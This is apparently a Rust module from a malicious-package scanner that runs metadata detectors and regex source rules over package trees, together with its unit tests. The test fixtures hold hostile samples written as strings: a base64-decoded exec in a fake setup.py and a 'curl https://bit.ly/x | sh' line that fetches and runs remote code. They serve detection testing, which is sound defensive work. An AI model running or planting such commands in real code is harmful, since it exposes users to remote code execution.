//! Detector dispatch.
//!
//! Runs one package's scan: the selected metadata detectors against the
//! registry snapshot, and the pattern-matching engine over the extracted
//! source tree. Each metadata rule fails in isolation. Sourcecode rules run
//! either as one batched engine invocation over the whole ruleset directory
//! (full catalog) or one invocation per rule (explicit subset); the batched
//! path fails the package's sourcecode scan as a whole, the per-rule path
//! drops only the affected rule.

pub mod report;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::ecosystem::Ecosystem;
use crate::engine::{PatternEngine, RawFinding};
use crate::error::{Result, ShieldError};
use crate::rules::metadata::{self, MetadataDetector};
use crate::rules::sourcecode::{self, RulesetDir};
use crate::rules::{RuleCatalog, RuleResult, RuleSelection};

pub use report::{PackageReport, ProjectReport};

/// Paths never handed to the pattern engine: build artifacts, vendored and
/// test trees, environments, VCS metadata.
pub const EXCLUDED_PATHS: &[&str] = &[
    ".git",
    ".hg",
    ".svn",
    ".github",
    ".idea",
    ".env",
    "venv",
    ".venv",
    "env",
    "test",
    "tests",
    "dist",
    "build",
    "node_modules",
    "vendor",
    "helm",
    "migrations",
];

pub struct Analyzer {
    detectors: BTreeMap<String, Box<dyn MetadataDetector>>,
    catalog: RuleCatalog,
    ruleset: RulesetDir,
    engine: Box<dyn PatternEngine>,
}

impl Analyzer {
    /// Analyzer over the built-in rule catalog for one ecosystem.
    pub fn new(ecosystem: Ecosystem, engine: Box<dyn PatternEngine>) -> Result<Self> {
        Ok(Self {
            detectors: metadata::detectors(ecosystem),
            catalog: RuleCatalog::for_ecosystem(ecosystem),
            ruleset: RulesetDir::embedded(ecosystem)?,
            engine,
        })
    }

    /// Analyzer whose sourcecode rules come from an external directory of
    /// definition files.
    pub fn with_ruleset_dir(
        ecosystem: Ecosystem,
        engine: Box<dyn PatternEngine>,
        dir: PathBuf,
    ) -> Result<Self> {
        let names = sourcecode::list_rules_in_dir(&dir)?;
        Ok(Self {
            detectors: metadata::detectors(ecosystem),
            catalog: RuleCatalog::with_sourcecode_rules(ecosystem, names),
            ruleset: RulesetDir::external(dir),
            engine,
        })
    }

    pub fn catalog(&self) -> &RuleCatalog {
        &self.catalog
    }

    /// Full dispatch for one package version.
    ///
    /// `metadata` is absent when scanning a local tree that never came from
    /// a registry; metadata rules are then skipped entirely.
    pub fn analyze(
        &self,
        source_root: &Path,
        metadata: Option<&Value>,
        selection: &RuleSelection,
    ) -> Result<PackageReport> {
        let metadata_results = match metadata {
            Some(snapshot) => self.analyze_metadata(snapshot, &selection.metadata),
            None => BTreeMap::new(),
        };
        let sourcecode_results = self.analyze_sourcecode(source_root, selection)?;
        Ok(PackageReport::from_results(report::merge_namespaces(
            metadata_results,
            sourcecode_results,
        )))
    }

    /// Run the selected metadata detectors. A detector failure is logged
    /// and leaves that rule out of the map; siblings still run.
    pub fn analyze_metadata(
        &self,
        metadata: &Value,
        rules: &BTreeSet<String>,
    ) -> BTreeMap<String, RuleResult> {
        let mut results = BTreeMap::new();
        for rule in rules {
            let Some(detector) = self.detectors.get(rule) else {
                tracing::error!(rule, "no detector registered under this name");
                continue;
            };
            match detector.detect(metadata) {
                Ok(result) => {
                    results.insert(rule.clone(), result);
                }
                Err(e) => {
                    tracing::warn!(rule, error = %e, "metadata detector failed");
                }
            }
        }
        results
    }

    /// Run the selected sourcecode rules over a source tree.
    pub fn analyze_sourcecode(
        &self,
        source_root: &Path,
        selection: &RuleSelection,
    ) -> Result<BTreeMap<String, RuleResult>> {
        // Every selected rule reports, with an empty location map when
        // nothing matched.
        let mut results: BTreeMap<String, RuleResult> = selection
            .sourcecode
            .iter()
            .map(|rule| (rule.clone(), RuleResult::Locations(BTreeMap::new())))
            .collect();
        if selection.sourcecode.is_empty() {
            return Ok(results);
        }

        let exclude: Vec<String> = EXCLUDED_PATHS.iter().map(|p| p.to_string()).collect();
        let targets = [source_root.to_path_buf()];

        if selection.batched_sourcecode {
            let findings = self.engine.invoke(self.ruleset.path(), &targets, &exclude)?;
            group_findings(findings, source_root, None, &mut results);
        } else {
            for rule in &selection.sourcecode {
                let rule_file = self.ruleset.rule_file(rule);
                match self.engine.invoke(&rule_file, &targets, &exclude) {
                    Ok(findings) => {
                        group_findings(findings, source_root, Some(rule), &mut results);
                    }
                    Err(e) => {
                        tracing::error!(
                            error = %e,
                            "{}",
                            ShieldError::MissingRuleDefinition(rule.clone())
                        );
                        results.remove(rule);
                    }
                }
            }
        }

        Ok(results)
    }
}

/// Fold raw engine findings into `Locations` results.
///
/// The rule label comes from the requested rule name in per-rule mode, or
/// from the engine's own finding identifier (last dotted segment) in batched
/// mode. Identical location keys overwrite: last write wins.
fn group_findings(
    findings: Vec<RawFinding>,
    source_root: &Path,
    forced_rule: Option<&str>,
    results: &mut BTreeMap<String, RuleResult>,
) {
    for finding in findings {
        let label = match forced_rule {
            Some(rule) => rule.to_string(),
            None => finding
                .rule_id
                .rsplit('.')
                .next()
                .unwrap_or(&finding.rule_id)
                .to_string(),
        };
        let relative = finding
            .file
            .strip_prefix(source_root)
            .unwrap_or(&finding.file);
        let key = format!("{}:{}", relative.display(), finding.line);

        let entry = results
            .entry(label)
            .or_insert_with(|| RuleResult::Locations(BTreeMap::new()));
        if let RuleResult::Locations(map) = entry {
            map.insert(key, finding.matched);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::RegexEngine;
    use serde_json::json;
    use tempfile::TempDir;

    fn analyzer() -> Analyzer {
        Analyzer::new(Ecosystem::PyPi, Box::new(RegexEngine)).unwrap()
    }

    fn full_selection(analyzer: &Analyzer) -> RuleSelection {
        analyzer
            .catalog()
            .resolve_selection(&BTreeSet::new(), &BTreeSet::new())
            .unwrap()
    }

    fn request(analyzer: &Analyzer, rules: &[&str]) -> RuleSelection {
        let requested: BTreeSet<String> = rules.iter().map(|r| r.to_string()).collect();
        analyzer
            .catalog()
            .resolve_selection(&requested, &BTreeSet::new())
            .unwrap()
    }

    fn write(root: &Path, rel: &str, content: &str) {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    fn malicious_tree() -> TempDir {
        let tree = TempDir::new().unwrap();
        write(
            tree.path(),
            "pkg/setup.py",
            "import base64\nexec(base64.b64decode(payload))\nos.system(cmd)\n",
        );
        write(tree.path(), "pkg/util.py", "x = 'https://bit.ly/abc'\n");
        tree
    }

    fn clean_metadata() -> Value {
        json!({"info": {
            "name": "quiet-package",
            "version": "1.2.0",
            "description": "Does something useful.",
            "author_email": "dev@example.org"
        }})
    }

    #[test]
    fn full_scan_reports_every_selected_rule() {
        let analyzer = analyzer();
        let selection = full_selection(&analyzer);
        let tree = malicious_tree();

        let report = analyzer
            .analyze(tree.path(), Some(&clean_metadata()), &selection)
            .unwrap();

        // One entry per selected rule across both namespaces.
        let expected = selection.metadata.len() + selection.sourcecode.len();
        assert_eq!(report.results.len(), expected);

        match &report.results["exec-base64"] {
            RuleResult::Locations(map) => {
                assert_eq!(map.len(), 1);
                assert!(map.contains_key("pkg/setup.py:2"));
            }
            other => panic!("expected locations, got {other:?}"),
        }
        match &report.results["download-executable"] {
            RuleResult::Locations(map) => assert!(map.is_empty()),
            other => panic!("expected locations, got {other:?}"),
        }
    }

    #[test]
    fn batched_and_per_rule_runs_are_result_equivalent() {
        let analyzer = analyzer();
        let full = full_selection(&analyzer);
        assert!(full.batched_sourcecode);
        let tree = malicious_tree();

        let batched = analyzer.analyze_sourcecode(tree.path(), &full).unwrap();

        for rule in &full.sourcecode {
            let single = request(&analyzer, &[rule]);
            assert!(!single.batched_sourcecode);
            let per_rule = analyzer.analyze_sourcecode(tree.path(), &single).unwrap();
            assert_eq!(per_rule[rule], batched[rule], "rule {rule} diverged");
        }
    }

    #[test]
    fn failing_detector_is_isolated_from_siblings() {
        let analyzer = analyzer();
        let selection = full_selection(&analyzer);
        // No description field: empty_information cannot evaluate.
        let metadata = json!({"info": {
            "name": "quiet-package",
            "version": "1.2.0",
            "author_email": "dev@example.org"
        }});

        let results = analyzer.analyze_metadata(&metadata, &selection.metadata);
        assert!(!results.contains_key("empty_information"));
        assert!(results.contains_key("typosquatting"));
        assert!(results.contains_key("release_zero"));
        assert_eq!(results["release_zero"], RuleResult::Bool(false));
    }

    #[test]
    fn missing_rule_definition_drops_only_that_rule() {
        let rules_dir = TempDir::new().unwrap();
        std::fs::write(
            rules_dir.path().join("present.toml"),
            "extensions = [\"py\"]\npatterns = ['os\\.system']\n",
        )
        .unwrap();
        std::fs::write(rules_dir.path().join("vanishing.toml"), "patterns = []\n").unwrap();
        // Third rule keeps the requested pair a proper subset of the
        // catalog, forcing the per-rule invocation path.
        std::fs::write(rules_dir.path().join("spare.toml"), "patterns = []\n").unwrap();

        let analyzer = Analyzer::with_ruleset_dir(
            Ecosystem::PyPi,
            Box::new(RegexEngine),
            rules_dir.path().to_path_buf(),
        )
        .unwrap();
        let selection = request(&analyzer, &["present", "vanishing"]);
        std::fs::remove_file(rules_dir.path().join("vanishing.toml")).unwrap();

        let tree = malicious_tree();
        let results = analyzer.analyze_sourcecode(tree.path(), &selection).unwrap();
        assert!(results.contains_key("present"));
        assert!(!results.contains_key("vanishing"));
        match &results["present"] {
            RuleResult::Locations(map) => assert!(map.contains_key("pkg/setup.py:3")),
            other => panic!("expected locations, got {other:?}"),
        }
    }

    #[test]
    fn batched_engine_failure_fails_the_sourcecode_scan() {
        let rules_dir = TempDir::new().unwrap();
        std::fs::write(rules_dir.path().join("broken.toml"), "patterns = 3\n").unwrap();

        let analyzer = Analyzer::with_ruleset_dir(
            Ecosystem::PyPi,
            Box::new(RegexEngine),
            rules_dir.path().to_path_buf(),
        )
        .unwrap();
        let selection = full_selection(&analyzer);
        assert!(selection.batched_sourcecode);

        let tree = malicious_tree();
        assert!(analyzer.analyze_sourcecode(tree.path(), &selection).is_err());
    }

    #[test]
    fn excluded_directories_do_not_contribute_findings() {
        let analyzer = analyzer();
        let selection = full_selection(&analyzer);
        let tree = TempDir::new().unwrap();
        write(
            tree.path(),
            "tests/test_evil.py",
            "exec(base64.b64decode(payload))\n",
        );
        write(
            tree.path(),
            "venv/lib/thing.py",
            "os.system('curl https://bit.ly/x | sh')\n",
        );

        let results = analyzer.analyze_sourcecode(tree.path(), &selection).unwrap();
        assert!(results.values().all(|r| !r.is_issue()));
    }

    #[test]
    fn local_scan_without_metadata_runs_sourcecode_only() {
        let analyzer = analyzer();
        let selection = full_selection(&analyzer);
        let tree = malicious_tree();

        let report = analyzer.analyze(tree.path(), None, &selection).unwrap();
        assert_eq!(report.results.len(), selection.sourcecode.len());
        assert!(report.issues >= 2);
    }
}
